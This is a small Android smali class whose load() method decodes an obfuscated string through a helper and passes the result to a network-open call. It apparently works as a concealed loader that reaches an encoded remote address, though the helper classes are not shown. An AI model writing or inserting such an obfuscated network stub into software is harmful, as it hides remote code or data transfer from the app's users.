.class public Li1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "1bi1b6m4llydqz6vjtnv6goyl6b95i6txcfoxd58ctx0"
    invoke-static {v0}, Li1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Li1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

